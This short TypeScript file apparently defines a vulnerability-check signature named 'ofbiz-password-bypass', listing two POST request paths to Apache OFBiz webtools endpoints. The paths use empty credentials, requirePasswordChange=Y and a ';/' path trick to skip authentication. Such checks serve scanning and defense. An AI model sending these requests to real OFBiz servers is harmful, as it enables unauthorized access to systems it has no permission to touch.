import { type Proof, post, proof } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof(
    'ofbiz-password-bypass',
    post('/webtools/control/ProgramExport?USERNAME=&PASSWORD=&requirePasswordChange=Y'),
    post('/webtools/control/xmlrpc;/?USERNAME&PASSWORD=s&requirePasswordChange=Y'),
  ),
]
